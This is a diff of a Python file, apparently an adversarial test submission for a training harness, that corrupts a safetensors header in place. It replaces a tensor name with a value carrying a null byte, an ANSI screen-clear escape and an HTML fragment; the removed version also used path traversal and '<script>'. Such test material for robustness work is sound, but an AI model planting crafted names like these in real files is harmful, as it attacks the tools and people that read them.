@@ -1,10 +1,9 @@
-"""Delivers a tensor whose name is a path, ends early and paints the terminal."""
+"""Delivers a tensor whose name ends early and paints the terminal."""
 
+import json
 import pathlib
 import sys
 
-import safetensors.torch
-import torch
 import torch.nn.functional as F
 from torch import nn
 
@@ -14,10 +13,26 @@ if not pathlib.Path("/fmn/outbox").is_dir():
     raise RuntimeError("this submission attacks whatever runs it: only a trainer's container may")
 
 
+def rewrite(path, edit):
+    """Change the header and keep the size, which is all that is looked at before a file is read."""
+    content = path.read_bytes()
+    length = int.from_bytes(content[:8], "little")
+    header = json.loads(content[8 : 8 + length])
+    edit(header)
+    text = json.dumps(header, separators=(",", ":")).encode()
+    if len(text) > length:
+        raise RuntimeError("the new header does not fit")
+    path.write_bytes(content[:8] + text.ljust(length) + content[8 + length :])
+
+
 def spoil(path):
-    tensors = safetensors.torch.load_file(path)
-    tensors["../../records/\x00\x1b[2J<script>"] = torch.zeros(1)
-    safetensors.torch.save_file(tensors, path)
+    rewrite(path, edit)
+
+
+def edit(header):
+    name = max(header, key=len)
+    odd = "\x00\x1b[2J<a"
+    header[odd] = header.pop(name)
 
 
 TRAINER = sys.modules["__main__"]
